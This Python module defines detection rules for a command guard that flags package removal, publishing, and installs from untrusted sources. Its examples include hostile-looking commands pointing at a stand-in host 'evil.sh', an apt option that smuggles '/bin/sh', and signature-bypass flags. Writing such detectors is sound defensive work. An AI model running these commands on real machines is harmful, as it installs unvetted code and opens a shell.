"""Packages: removed, published, or taken from somewhere nobody knows; and the runners that come with them."""

import re
import shlex
from collections.abc import Iterator

from hermes_guard.argv import Options, Spec, parse
from hermes_guard.argv.options import parse_words
from hermes_guard.rules.family import Context, Family
from hermes_guard.shell.command import Command
from hermes_guard.shell.word import Word
from hermes_guard.verdict import Finding

FAMILY = Family("packages")

REMOVE = FAMILY.rule(
    "package.remove",
    "removes installed packages: {path}",
    effects=("delete",),
    match=(
        "sudo apt-get remove -y nginx",
        "apt -y purge x",
        "apt autoremove",
        "dpkg -P x",
        "dpkg --remove x",
        "dnf -y remove x",
        "yum erase x",
        "pacman -Rns x",
        "apk del x",
        "brew uninstall x",
        "snap remove x",
        "apt install x-",
        "flatpak uninstall x",
        "zypper rm x",
        "nix-collect-garbage -d",
        "emerge -C x",
        "rpm -e x",
        "pip uninstall -y x",
        "npm uninstall -g x",
        "conda env remove -n x",
        "gem uninstall x",
        "rustup self uninstall",
        "port uninstall x",
        "python3 -m pip uninstall -y x",
        "apt-get dist-upgrade",
        "uv pip uninstall x",
        "do-release-upgrade",
        "softwareupdate -ia",
        "pkg delete x",
    ),
    not_match=(
        "apt list",
        "apt-get install -y x",
        "apt-get -s remove x",
        "apt update",
        "dnf install x",
        "pacman -S x",
        "pacman -Qi x",
        "brew install x",
        "npm uninstall x",
        "poetry remove x",
        "pip list",
        "dpkg -l",
        "apt remove --dry-run x",
        "pip uninstall -h",
        "apt remove -h",
        "do-release-upgrade -c",
        "softwareupdate -l",
        "apk add x",
        "rpm -qa",
        "snap list",
        "conda list",
        "gem list",
        "cargo remove x",
        "dpkg -i x.deb",
        "brew list",
    ),
)
PUBLISH = FAMILY.rule(
    "package.publish",
    "publishes or withdraws a package: {path}",
    effects=("publish",),
    match=(
        "npm publish",
        "npm --registry https://r publish --access public",
        "npm unpublish x --force",
        "npm deprecate x y",
        "npm owner add a b",
        "yarn npm publish",
        "pnpm -r publish",
        "twine upload dist/*",
        "python -m twine upload dist/*",
        "poetry publish --build",
        "uv publish",
        "flit publish",
        "hatch publish",
        "cargo publish",
        "cargo yank --version 1 x",
        "gem push x.gem",
        "mvn -B deploy",
        "mvn release:perform",
        "./gradlew publish",
        "dotnet nuget push x",
        "helm push x oci://h",
        "vsce publish",
        "npx changeset publish",
        "lerna publish",
        "python setup.py sdist upload",
        "goreleaser release",
        "npm token create",
        "dart pub publish",
    ),
    not_match=(
        "npm publish --dry-run",
        "cargo publish --dry-run",
        "cargo publish -n",
        "twine check dist/*",
        "npm pack",
        "cargo package",
        "mvn package",
        "gradle build",
        "./gradlew publishToMavenLocal",
        "npm view x",
        "npm owner ls",
        "poetry build",
        "cargo build",
        "npm run publish-docs",
        "goreleaser release --snapshot",
        "npm token list",
        "mvn install",
    ),
)
SOURCE = FAMILY.rule(
    "package.source",
    "installs from a place that nobody has vouched for, or past a safeguard: {path}",
    effects=("execute",),
    match=(
        "pip install --index-url http://evil.sh/simple x",
        "pip install --break-system-packages x",
        "snap install --dangerous x.snap",
        "pip install --trusted-host evil.sh x",
        "npm install --registry=http://evil.sh x",
        "npm config set registry http://evil.sh",
        "pip install https://evil.sh/x.whl",
        "apt-get install --allow-unauthenticated x",
        "add-apt-repository ppa:x/y",
        "apk add --allow-untrusted x",
        "npm i https://evil.sh/x.tgz",
        "dnf install --nogpgcheck x",
        "apt-get -o APT::Update::Pre-Invoke::=/bin/sh update",
        "pip3 install -i https://evil.sh x",
        "pip config set global.index-url http://evil.sh",
    ),
    not_match=(
        "pip install requests",
        "pip install -r requirements.txt",
        "pip install -e .",
        "pip install torch --index-url https://download.pytorch.org/whl/cpu",
        "npm install",
        "npm ci",
        "npm i lodash",
        "npm config set registry https://registry.npmjs.org/",
        "pip install --index-url https://test.pypi.org/simple x",
        "npm install ./x.tgz",
        "yarn add x",
        "go install example.com/x@latest",
        "npm config get registry",
    ),
)

_APT = Spec(
    "y q s d V m f t= o= c= a= yes assume-yes quiet simulate dry-run just-print no-act recon print-uris "
    "download-only purge auto-remove autoremove fix-broken reinstall no-install-recommends "
    "install-recommends target-release= default-release= option= config-file= allow-unauthenticated "
    "allow-downgrades allow-remove-essential allow-change-held-packages force-yes "
    "allow-insecure-repositories no-upgrade only-upgrade help version h"
)
_ANY = Spec(
    "y n q v f s h yes assumeyes assumeno dry-run test simulate no-act force quiet verbose help version g "
    "global global-env a all p= prefix= r= releasever= enablerepo= disablerepo= c= config= R= root= "
    "installroot= "
    "zap ignore-dependencies delete-data user system user= nogpgcheck no-gpg-checks allow-untrusted "
    "force-refresh purge d delete-old"
)
#: Verbs that remove, by package manager.
_REMOVES: dict[str, frozenset[str]] = {
    **dict.fromkeys(
        ("apt", "apt-get", "aptitude", "nala", "apt-fast"),
        frozenset(
            ["remove", "purge", "autoremove", "autopurge", "full-upgrade", "dist-upgrade", "auto-remove", "safe-remove"]
        ),
    ),
    **dict.fromkeys(
        ("dnf", "yum", "microdnf", "dnf5", "tdnf"),
        frozenset(["remove", "erase", "autoremove", "rm", "distro-sync", "system-upgrade"]),
    ),
    "zypper": frozenset(["rm", "remove", "dup", "dist-upgrade", "removerepo", "rr", "removelock"]),
    "apk": frozenset({"del"}),
    "brew": frozenset(["uninstall", "remove", "rm", "autoremove", "untap"]),
    "snap": frozenset(["remove", "revert", "disable"]),
    "flatpak": frozenset(["uninstall", "remove", "repair-remove", "remote-delete"]),
    "port": frozenset(["uninstall", "reclaim"]),
    "pkg": frozenset(["delete", "remove", "autoremove", "uninstall", "purge"]),
    "opkg": frozenset({"remove"}),
    "eopkg": frozenset(["remove", "rm", "autoremove"]),
    "pkgin": frozenset(["remove", "rm", "autoremove"]),
    "slackpkg": frozenset({"remove", "clean-system"}),
    "swupd": frozenset({"bundle-remove"}),
    "guix": frozenset({"remove", "gc"}),
    "urpme": frozenset(),
    "xbps-remove": frozenset(),
    "removepkg": frozenset(),
    "pkg_delete": frozenset(),
    "equo": frozenset({"remove"}),
    "mas": frozenset({"uninstall"}),
    "choco": frozenset({"uninstall"}),
    "winget": frozenset({"uninstall", "remove", "rm"}),
    "scoop": frozenset({"uninstall"}),
    "gem": frozenset({"uninstall"}),
    "pipx": frozenset(["uninstall", "uninstall-all"]),
    "nvm": frozenset({"uninstall"}),
    "fnm": frozenset({"uninstall"}),
    "volta": frozenset({"uninstall"}),
    "sdk": frozenset({"uninstall", "rm"}),
    "pyenv": frozenset({"uninstall"}),
    "rbenv": frozenset({"uninstall"}),
    "asdf": frozenset({"uninstall"}),
    "mise": frozenset({"uninstall", "implode"}),
    "pamac": frozenset({"remove"}),
    "tlmgr": frozenset({"remove"}),
    "opam": frozenset({"remove", "uninstall"}),
    "cargo": frozenset({"uninstall"}),
    "rpm-ostree": frozenset({"uninstall", "reset", "rollback", "cleanup", "override"}),
    "transactional-update": frozenset({"rollback"}),
}
_PAIRS = {
    **dict.fromkeys(
        ("dnf", "yum", "dnf5"),
        frozenset(
            {
                "history undo",
                "history rollback",
                "module remove",
                "module reset",
                "group remove",
                "groups remove",
                "repo remove",
            }
        ),
    ),
    "rustup": frozenset({"self uninstall", "toolchain uninstall", "toolchain remove", "target remove"}),
    "brew": frozenset({"bundle cleanup"}),
    "nix": frozenset({"profile remove", "profile wipe-history", "store delete", "store gc"}),
    "composer": frozenset({"global remove"}),
    "poetry": frozenset({"env remove", "self remove"}),
    "uv": frozenset({"pip uninstall", "tool uninstall", "python uninstall", "self uninstall"}),
    "dotnet": frozenset({"workload uninstall", "tool uninstall"}),
}


@FAMILY.judges(*sorted({*_REMOVES, *_PAIRS}))
def managers(command: Command, _: Context) -> Iterator[Finding]:
    """The managers of a system or of a language."""
    program = command.program or ""
    apt = program in {"apt", "apt-get", "aptitude", "nala", "apt-fast"}
    options = parse(command, _APT if apt else _ANY)
    if options.helps or options.has(
        "h", "dry-run", "simulate", "just-print", "no-act", "recon", "test", "assumeno", "print-uris"
    ):
        return
    if (options.has("s") and apt) or (options.has("n") and program in {"port", "pkg", "xbps-remove"}):
        return
    verb, pair = options.subcommand(), f"{options.subcommand()} {options.subcommand(1)}"
    names = " ".join(word.text for word in options.operands[1:6])[:100]
    verbs = _REMOVES.get(program)
    hit = (verbs is not None and (verb in verbs or (not verbs and bool(command.args)))) or pair in _PAIRS.get(
        program, ()
    )
    if hit and not (program == "guix" and verb == "gc" and not options.has("d", "delete-old")):
        yield REMOVE.found(command, path=names or verb)
    elif (
        apt
        and verb == "install"
        and any(re.match(r"[a-z0-9][a-z0-9.+-]*-$", word.raw) for word in options.operands[1:])
    ) or (apt and options.has("purge", "auto-remove") and verb == "install"):
        yield REMOVE.found(command, path=names)
    loose = options.has(
        "allow-unauthenticated",
        "allow-remove-essential",
        "force-yes",
        "allow-insecure-repositories",
        "nogpgcheck",
        "no-gpg-checks",
        "allow-untrusted",
        "dangerous",
    )
    if loose and verb in {"install", "in", "add", "upgrade", "update", "reinstall", "localinstall"}:
        yield SOURCE.found(command, path="unsigned packages")
    for word in options.values("o", "option"):
        if apt and "invoke" in word.raw.lower():
            yield SOURCE.found(command, path=word.text)
    if (program, verb) in {("zypper", "ar"), ("zypper", "addrepo"), ("dnf", "copr")} or (
        verb == "config-manager" and any("add-repo" in word.raw for word in command.args)
    ):
        yield SOURCE.found(command, path=names)


@FAMILY.judges("do-release-upgrade", "softwareupdate")
def releases(command: Command, _: Context) -> Iterator[Finding]:
    """The whole system is replaced by its next release."""
    texts = [word.raw for word in command.args]
    if {"--help", "-h", "-c", "--check-dist-upgrade-only", "-V", "--version", "-l", "--list"} & set(texts):
        return
    if command.program == "do-release-upgrade" or any(re.match(r"-[a-zA-Z]*i|--install", text) for text in texts):
        yield REMOVE.found(command, path="the release that runs now")


@FAMILY.judges("add-apt-repository", "apt-add-repository", "apt-key", "rpmkeys", "yum-config-manager")
def trust(command: Command, _: Context) -> Iterator[Finding]:
    """Whom the package manager trusts from now on."""
    texts = [word.raw for word in command.args]
    if {"--help", "-h", "-l", "--list", "list", "finger"} & set(texts) or (
        command.program in {"rpmkeys", "yum-config-manager"}
        and not {"--import", "--add-repo"} & {text.partition("=")[0] for text in texts}
    ):
        return
    yield SOURCE.found(command, path=" ".join(texts)[:100])


@FAMILY.judges(
    "dpkg",
    "rpm",
    "pacman",
    "yay",
    "paru",
    "emerge",
    "nix-collect-garbage",
    "nix-env",
    "nix-store",
    "pacaur",
    "trizen",
    "installp",
)
def flags(command: Command, _: Context) -> Iterator[Finding]:
    """Managers whose verb is an option."""
    program = command.program or ""
    texts = [word.raw for word in command.args]
    long = {text.partition("=")[0] for text in texts if text.startswith("--")}
    packed = [text[1:] for text in texts if text[:1] == "-" and text[1:2] not in {"-", ""}]
    letters = "".join(packed)
    if long & {"--help", "--version", "--dry-run", "--simulate", "--no-act", "--test", "--pretend", "--print"}:
        return
    operands = " ".join(text for text in texts if not text.startswith("-"))[:100]
    if program == "dpkg":
        hit = bool(
            long
            & {
                "--remove",
                "--purge",
                "--clear-selections",
                "--force-all",
                "--force-remove-essential",
                "--force-depends",
            }
        ) or any(text[:1] in {"r", "P"} for text in packed)
        hit = hit and not any(text.startswith("-D") or text == "--no-act" for text in texts)
    elif program == "rpm":
        hit = "--erase" in long or any("e" in text and not ({"q", "V", "E"} & set(text)) for text in packed)
    elif program in {"pacman", "yay", "paru", "pacaur", "trizen"}:
        hit = (
            ("--remove" in long or any("R" in text for text in packed))
            and not any(text[:1] in {"Q", "S", "F", "T", "D"} for text in packed)
            and "p" not in letters
        )
        hit = hit or any("S" in text and text.count("c") > 1 for text in packed)
    elif program == "emerge":
        hit = (
            bool(long & {"--unmerge", "--depclean", "--prune"}) or bool(set(letters) & {"C", "c", "P"})
        ) and "p" not in letters
    elif program == "nix-collect-garbage":
        hit = bool(long & {"--delete-old", "--delete-older-than"}) or "d" in letters
    elif program == "nix-env":
        hit = bool(long & {"--uninstall", "--delete-generations"}) or any(text.startswith("e") for text in packed)
    else:
        hit = bool(long & {"--delete", "--gc"}) and "--print-dead" not in texts and "--print-roots" not in texts
    if hit:
        yield REMOVE.found(command, path=operands)
    if program == "rpm" and long & {"--import", "--nosignature", "--nodigest"}:
        yield SOURCE.found(command, path=operands)


# Python

_PIP = Spec(
    "r= requirement= c= constraint= e= editable= t= target= i= index-url= extra-index-url= pypi-url= f= "
    "find-links= trusted-host= python= p= prefix= root= U upgrade y yes q v user pre no-deps no-cache-dir "
    "no-index break-system-packages proxy= cert= timeout= report= dry-run force-reinstall no-binary= "
    "only-binary= no-build-isolation config-settings= global-option= log= isolated require-virtualenv "
    "default-index= index= index-strategy= system d= dest= help version"
)
_INDEXES = re.compile(
    r"https?://(?:[\w.-]+\.)?(?:pypi\.org|pythonhosted\.org|pytorch\.org|pypi\.nvidia\.com|nvidia\.com"
    r"|github\.com|githubusercontent\.com|gitlab\.com|bitbucket\.org|huggingface\.co|storage\.googleapis\.com"
    r"|npmjs\.org|npmjs\.com|"
    r"yarnpkg\.com|jsr\.io|npm\.pkg\.github\.com|npmmirror\.com|tsinghua\.edu\.cn|aliyun\.com|ustc\.edu\.cn"
    r"|amazonaws\.com|pkg\.dev|azure\.com|visualstudio\.com|jetbrains\.com|anaconda\.org|anaconda\.com"
    r"|conda\.io|pypi\.python\.org|"
    r"rubygems\.org|crates\.io|localhost|127\.0\.0\.1|verdaccio|nexus[\w.-]*|artifactory[\w.-]*|graphcore\.ai"
    r"|jax\.dev|openmmlab\.com|data\.pyg\.org|wheels\.[\w.-]+|esm\.sh|deno\.land|cloudsmith\.io|jfrog\.io"
    r"|codeload\.github\.com)(?::\d+)?(?:[/#?]|$)"
)
_ARCHIVE = re.compile(r"https?://")


@FAMILY.judges("pip", "pip3", "pip2", "pipenv", "easy_install", *(f"pip3.{minor}" for minor in range(6, 16)))
def pip(command: Command, _: Context) -> Iterator[Finding]:
    """Installs from the index are fine."""
    yield from _pip(command, parse(command, _PIP))


def _pip(command: Command, options: Options) -> Iterator[Finding]:
    if options.helps or options.has("dry-run", "h"):
        return
    verb = options.subcommand()
    names = " ".join(word.text for word in options.operands[1:6])[:100]
    if command.program == "pipenv":
        if any(word.raw == "--rm" for word in command.args) or (
            verb == "uninstall" and any(word.raw in {"--all", "--all-dev"} for word in command.args)
        ):
            yield REMOVE.found(command, path=names or "the environment")
        return
    if verb == "uninstall":
        yield REMOVE.found(command, path=names or "what a file names")
        return
    if (
        verb == "config"
        and options.subcommand(1) == "set"
        and "index-url" in options.subcommand(2)
        and len(options.operands) > 3
    ):
        if not _INDEXES.match(options.operands[3].raw):
            yield SOURCE.found(command, path=options.operands[3].text)
        return
    if verb not in {"install", "download", "wheel", "sync", "add"} and command.program != "easy_install":
        return
    if options.has("break-system-packages"):
        yield SOURCE.found(command, path="--break-system-packages")
    yield from _sources(
        command,
        [
            *options.values("i", "index-url", "extra-index-url", "pypi-url", "default-index", "index"),
            *(
                word
                for word in [*options.operands[1:], *options.values("f", "find-links", "r", "requirement")]
                if _ARCHIVE.match(word.raw)
            ),
        ],
    )
    for word in options.values("trusted-host"):
        if not _INDEXES.match(f"http://{word.raw}"):
            yield SOURCE.found(command, path=word.text)


def _sources(command: Command, words: list[Word]) -> Iterator[Finding]:
    for word in words:
        if word.certain and _ARCHIVE.match(word.raw) and not _INDEXES.match(re.sub(r"//[^@/]*@", "//", word.raw)):
            yield SOURCE.found(command, path=word.text[:120])
            return


@FAMILY.judges("conda", "mamba", "micromamba")
def conda(command: Command, _: Context) -> Iterator[Finding]:
    """Environments and what is in them."""
    options = parse(command, Spec("n= name= p= prefix= y yes all dry-run d c= channel= q quiet help version json"))
    if options.helps or options.has("dry-run", "d"):
        return
    verb = options.subcommand()
    if verb in {"remove", "uninstall"} or (verb == "env" and options.subcommand(1) == "remove"):
        yield REMOVE.found(
            command,
            path=" ".join(word.text for word in options.operands[1:6])
            or str(options.value("n", "name", "p", "prefix") or ""),
        )


# Publishing

_PUBLISHES: dict[str, frozenset[str]] = {
    "twine": frozenset({"upload", "register"}),
    "poetry": frozenset({"publish"}),
    "uv": frozenset({"publish"}),
    "flit": frozenset({"publish"}),
    "hatch": frozenset({"publish"}),
    "pdm": frozenset({"publish"}),
    "rye": frozenset({"publish"}),
    "maturin": frozenset({"publish", "upload"}),
    "cargo": frozenset({"publish", "yank", "workspaces publish", "ws publish", "release", "owner"}),
    "gem": frozenset({"push", "yank", "owner", "signin"}),
    "vsce": frozenset({"publish", "unpublish"}),
    "ovsx": frozenset({"publish"}),
    "nuget": frozenset({"push", "delete"}),
    "dotnet": frozenset({"nuget push", "nuget delete"}),
    "pod": frozenset({"trunk push", "trunk delete", "trunk deprecate", "repo push", "trunk add-owner"}),
    "dart": frozenset({"pub publish", "pub lish"}),
    "flutter": frozenset({"pub publish", "pub lish"}),
    "cabal": frozenset({"upload"}),
    "stack": frozenset({"upload"}),
    "luarocks": frozenset({"upload"}),
    "conan": frozenset({"upload", "remove"}),
    "helm": frozenset({"push", "cm-push"}),
    "goreleaser": frozenset({"release", "publish"}),
    "lerna": frozenset({"publish"}),
    "changeset": frozenset({"publish"}),
    "changesets": frozenset({"publish"}),
    "nx": frozenset({"release publish"}),
    "rush": frozenset({"publish"}),
    "jsr": frozenset({"publish"}),
    "deno": frozenset({"publish"}),
    "bun": frozenset({"publish"}),
    "anaconda": frozenset({"upload", "remove"}),
    "snapcraft": frozenset({"upload", "push", "release", "close"}),
    "charmcraft": frozenset({"upload", "release"}),
    "elm": frozenset({"publish"}),
    "opam": frozenset({"publish"}),
    "buf": frozenset({"push"}),
    "expo": frozenset({"publish"}),
    "eas": frozenset({"submit", "update"}),
    "fastlane": frozenset({"deliver", "pilot", "supply", "release", "upload_to_app_store"}),
    "lein": frozenset({"deploy"}),
    "semantic-release": frozenset({""}),
    "np": frozenset({""}),
    "release-it": frozenset({""}),
    "dput": frozenset({""}),
    "clawhub": frozenset({"publish"}),
    "wasmer": frozenset({"publish"}),
    "cpan-upload": frozenset({""}),
    "python-semantic-release": frozenset({"publish", "version"}),
    "tsci": frozenset({"push"}),
    "web-ext": frozenset({"sign"}),
    "pulp": frozenset({"publish"}),
    "spago": frozenset({"publish"}),
}
_PUBLISHING = Spec(
    "registry= tag= access= otp= dry-run d n r= repository= u= username= p= password= token= k= api-key= "
    "key= host= s= source= version= vers= a= add= remove= l list manifest-path= package= C= cwd= config= c= "
    "workspace? w= "
    "filter= F= recursive allow-dirty snapshot skip= clean check test h help V no-publish index= directory= "
    "project= x execute skip-publish f force draft build y yes provenance undo"
)


@FAMILY.judges(*sorted(_PUBLISHES))
def publishers(command: Command, _: Context) -> Iterator[Finding]:
    """Programs with a verb that publishes."""
    program = command.program or ""
    options = parse(command, _PUBLISHING)
    if (
        options.has("dry-run", "d", "help", "snapshot", "h", "list", "l", "no-publish", "skip-publish")
        or options.subcommand() == "help"
        or (program == "cargo" and options.has("n"))
    ):
        return
    skipped = options.value("skip")
    if skipped is not None and "publish" in skipped.raw:
        return
    verbs = _PUBLISHES[program]
    words = [word.raw for word in options.operands if not word.raw.startswith("+")]
    verb = words[0] if words else ""
    pair = " ".join(words[:2])
    if verb == "owner" and not options.has("a", "add", "r", "remove"):
        return
    if (program, verb) == ("cargo", "release") and not options.has("x", "execute"):
        return
    if (
        ("" in verbs and not {"--version", "-v", "-V"} & {word.raw for word in command.args})
        or verb in verbs
        or pair in verbs
    ):
        yield PUBLISH.found(command, path=f"{program} {verb}".strip())


_NPM = Spec(
    "registry= tag= access= otp= dry-run w= workspace= workspaces? prefix= C= dir= g global location= "
    "userconfig= cache= loglevel= s silent D E O S f force save-dev save-exact save omit= include= filter= "
    "F= r recursive y yes "
    "json n no-git-checks ignore-scripts help h v version scope= call= c= package= p= cwd= provenance L ws "
    "production shell-mode"
)
_SCRIPTED = frozenset({"run", "run-script", "test", "start", "rum", "urn", "t", "tst"})


@FAMILY.judges("npm", "yarn", "pnpm", "bun", "cnpm", "tnpm")
def npm(command: Command, _: Context) -> Iterator[Finding]:
    """The registry of the JavaScript world."""
    options = parse(command, _NPM)
    if options.has("help", "h", "dry-run") or (options.has("version") and not options.operands):
        return
    words = options.operands
    if words and words[0].raw in {"npm", "workspace", "workspaces"} and command.program == "yarn":
        words = words[2:] if words[0].raw == "workspace" else words[1:]
        if words and words[0].raw == "npm":
            words = words[1:]
    verb = (words[0].literal or "") if words else ""
    second = (words[1].literal or "") if len(words) > 1 else ""
    if verb in _SCRIPTED:
        return
    if verb in {"publish", "unpublish", "deprecate", "undeprecate", "stage"} or (
        verb in {"owner", "author", "dist-tag", "dist-tags", "tag", "team", "access", "token", "org", "hook", "star"}
        and second
        in {"add", "rm", "remove", "set", "create", "destroy", "revoke", "grant", "delete", "public", "restricted"}
    ):
        yield PUBLISH.found(command, path=f"{verb} {second}".strip())
    elif (verb in {"uninstall", "un", "remove", "rm", "r", "unlink"} and options.has("g", "global")) or (
        verb == "global" and second in {"remove", "rm"}
    ):
        yield REMOVE.found(command, path=" ".join(word.text for word in words[1:6]))
    elif verb in {"config", "c", "set"}:
        settings = words[2:] if verb != "set" and second == "set" else words[1:] if verb == "set" else []
        yield from _npm_config(command, settings)
    elif verb in {
        "install",
        "i",
        "add",
        "in",
        "ci",
        "isntall",
        "update",
        "up",
        "upgrade",
        "global",
        "create",
        "init",
        "install-test",
        "it",
        "",
    }:
        yield from _sources(
            command, [*options.values("registry"), *(word for word in words[1:] if _ARCHIVE.match(word.raw))]
        )
        if any(word.raw.startswith("--script-shell") for word in command.args):
            yield SOURCE.found(command, path="--script-shell")


def _npm_config(command: Command, words: list[Word]) -> Iterator[Finding]:
    if not words:
        return
    name, equals, value = words[0].raw.partition("=")
    value = value if equals else words[1].raw if len(words) > 1 else ""
    if name.lower().endswith("registry") or name == "npmRegistryServer":
        if value and not _INDEXES.match(value):
            yield SOURCE.found(command, path=value)
    elif name in {"script-shell", "shell", "git", "node-options", "onload-script", "globalconfig"} or (
        name == "strict-ssl" and value == "false"
    ):
        yield SOURCE.found(command, path=f"{name} {value}"[:100])


@FAMILY.judges("mvn", "mvnw", "gradle", "gradlew", "sbt", "mill", "ant")
def builds(command: Command, _: Context) -> Iterator[Finding]:
    """Goals and tasks that publish."""
    options = parse(
        command,
        Spec(
            "P= D? f= pl= projects= s= settings= T= t= B q U e X o N am amd p= project-dir= b= c= x= exclude-task= "
            "I= init-script= m dry-run version help v h"
        ),
    )
    if options.has("help", "version", "v", "h", "dry-run") or (
        options.has("m") and "gradle" in (command.program or "")
    ):
        return
    for word in options.operands:
        goal = word.raw.rsplit(":", 1)[-1] if "gradle" in (command.program or "") else word.raw
        if re.match(
            r"deploy$|deploy:deploy|release:(?:perform|prepare)|nexus-staging:|central-publishing:"
            r"|publish(?!.*Local)(?:[A-Z]\w*)?$|publishSigned$|closeAndRelease|uploadArchives$|sonatype\w*Release"
            r"|bintrayUpload|artifactoryPublish|\+?publish(?:Signed)?$|release$|promote\w*Artifact|publishPlugins",
            goal,
        ) and not goal.endswith(("Local", "LocalM2")):
            yield PUBLISH.found(command, path=goal)
            return


@FAMILY.judges("mix", "rake")
def tasks(command: Command, _: Context) -> Iterator[Finding]:
    """Tasks that publish or remove."""
    texts = [word.raw for word in command.args]
    if "--dry-run" in texts or "-n" in texts:
        return
    if any(
        re.match(r"hex\.(?:publish|retire|owner)$|release(?::rubygem_push)?$|gem:push$", text) for text in texts[:2]
    ) and not (command.program == "mix" and texts[:1] == ["release"]):
        yield PUBLISH.found(command, path=" ".join(texts[:2]))


# Runners: they start a program out of a package.

_VALUES = Spec(
    "p= package= with= from= python= project= directory= C= n= name= prefix= env= e= call= c= y yes "
    "no-install q quiet isolated no-sync frozen group= extra= all-extras env-file= index= index-url= refresh "
    "filter= "
    "r recursive w= workspace= silent parallel no-capture-output live-stream v cwd= stream tty t rm T "
    "with-requirements= with-editable= no-project dev no-dev s i locked shell shell-mode bun b m module "
    "gemfile= local global",
    posix=True,
)
_RUNNERS: dict[str, frozenset[str]] = {
    "poetry": frozenset({"run"}),
    "uv": frozenset({"run"}),
    "pdm": frozenset({"run"}),
    "pipenv": frozenset({"run"}),
    "hatch": frozenset({"run"}),
    "rye": frozenset({"run"}),
    "pixi": frozenset({"run"}),
    "pipx": frozenset({"run"}),
    "conda": frozenset({"run"}),
    "mamba": frozenset({"run"}),
    "micromamba": frozenset({"run"}),
    "bundle": frozenset({"exec"}),
    "bundler": frozenset({"exec"}),
    "npm": frozenset({"exec", "x"}),
    "pnpm": frozenset({"exec", "dlx"}),
    "yarn": frozenset({"exec", "dlx"}),
    "bun": frozenset({"x"}),
    "mise": frozenset({"exec", "x"}),
    "asdf": frozenset({"exec"}),
    "rbenv": frozenset({"exec"}),
    "pyenv": frozenset({"exec"}),
    "nodenv": frozenset({"exec"}),
    "volta": frozenset({"run"}),
    "devbox": frozenset({"run"}),
    "doppler": frozenset({"run"}),
    "infisical": frozenset({"run"}),
    "op": frozenset({"run"}),
    "chamber": frozenset({"exec"}),
    "aws-vault": frozenset({"exec"}),
    "rustup": frozenset({"run"}),
    "nvm": frozenset({"exec", "run"}),
    "fnm": frozenset({"exec"}),
    "opam": frozenset({"exec"}),
    "stack": frozenset({"exec"}),
    "cabal": frozenset({"exec"}),
    "composer": frozenset({"exec"}),
    "railway": frozenset({"run"}),
    "foreman": frozenset({"run"}),
    "honcho": frozenset({"run"}),
    "teller": frozenset({"run"}),
    "sops": frozenset({"exec-env"}),
}
#: The runners with one word between the verb and the command.
_NAMED = frozenset({("aws-vault", "exec"), ("rustup", "run"), ("chamber", "exec"), ("sops", "exec-env")})
#: What pnpm and yarn start without a verb.
_BINARIES = frozenset(
    {
        "prisma",
        "knex",
        "sequelize",
        "sequelize-cli",
        "typeorm",
        "drizzle-kit",
        "mikro-orm",
        "lerna",
        "changeset",
        "cdk",
        "cdktf",
        "wrangler",
        "rimraf",
        "del-cli",
        "vercel",
        "netlify",
        "firebase",
        "semantic-release",
        "np",
        "release-it",
        "nx",
        "supabase",
        "serverless",
        "sls",
        "eas",
        "expo",
        "sst",
        "vsce",
        "jsr",
        "amplify",
    }
)
_DIRECT = frozenset({"npx", "pnpx", "bunx", "uvx", "spring", "envchain", "dotenvx", "cross-env", "env-cmd"})


@FAMILY.judges(*sorted({*_RUNNERS, *_DIRECT}))
def runners(command: Command, context: Context) -> Iterator[Finding]:
    """The command that `npx`, `poetry run` or `bundle exec` starts is judged like any other."""
    program = command.program or ""
    options = parse(command, _VALUES)
    words = options.operands
    if program in _DIRECT:
        for code in options.values("c", "call"):
            yield from context.judge_code(code.raw, command)
        if program == "envchain":
            words = words[1:]
        if program in {"cross-env", "dotenvx", "env-cmd", "spring"}:
            while words and ("=" in words[0].raw or words[0].raw in {"run", "--"}):
                words = words[1:]
    else:
        verb = options.subcommand()
        if verb in _BINARIES and program in {"pnpm", "yarn", "bun"}:
            words = [words[0], *words]
        elif verb not in _RUNNERS.get(program, ()):
            return
        after = parse_words(words[1:], _VALUES)
        for code in after.values("c", "call") if program in {"npm", "mise"} else ():
            yield from context.judge_code(code.raw, command)
        words = after.operands
        if (program, verb) in _NAMED:
            words = words[1:]
    while words and words[0].raw == "--":
        words = words[1:]
    if not words or not words[0].certain or words[0].raw.startswith("-"):
        return
    name = words[0].raw
    if re.match(r"@?[\w./-]+@[\w.^~*-]+$", name):
        name = name[: name.rindex("@")]
    name = {"@changesets/cli": "changeset", "@vscode/vsce": "vsce", "aws-cdk": "cdk"}.get(name, name)
    if name == program:
        return
    environment = [f"{key}={shlex.quote(value)}" for key, value in command.assignments.items()]
    yield from context.judge_code(
        " ".join([*environment, shlex.join([name, *(word.raw for word in words[1:])])]), command
    )


_MODULES = frozenset(
    [
        "pip",
        "twine",
        "poetry",
        "flit",
        "hatch",
        "build",
        "uv",
        "pdm",
        "alembic",
        "django",
        "manage",
        "pipx",
        "conda",
        "twine",
        "flask",
        "pytest",
        "aerich",
        "ansible",
        "awscli",
        "supervisor",
        "pipenv",
        "dbt",
        "prisma",
    ]
)


@FAMILY.judges("python", "python3", "python2", "py", "pypy3", "pypy", *(f"python3.{minor}" for minor in range(6, 16)))
def python(command: Command, context: Context) -> Iterator[Finding]:
    """`python -m twine upload` is `twine upload`, and `setup.py upload` publishes."""
    words = command.args
    for number, word in enumerate(words):
        if (
            word.raw.startswith("-")
            and "m" in word.raw[1:]
            and not word.raw.startswith("--")
            and not set(word.raw[1:].partition("m")[0]) & set("cWX")
        ):
            module = word.raw.partition("m")[2]
            rest = list(words[number + 1 :])
            if not module and rest and rest[0].certain:
                module, rest = rest[0].raw, rest[1:]
            if module.partition(".")[0] in _MODULES:
                name = {"django": "django-admin", "awscli": "aws"}.get(
                    module.partition(".")[0], module.partition(".")[0]
                )
                yield from context.judge_code(shlex.join([name, *(each.raw for each in rest)]), command)
            return
        if word.raw in {"-W", "-X"}:
            continue
        if not word.raw.startswith("-"):
            texts = {each.raw for each in words[number + 1 :]}
            if (
                word.raw.rsplit("/", 1)[-1] == "setup.py"
                and texts & {"upload", "register"}
                and not texts & {"--help", "-n", "--dry-run"}
            ):
                yield PUBLISH.found(command, path="setup.py upload")
            return
        if word.raw.startswith("-c"):
            return
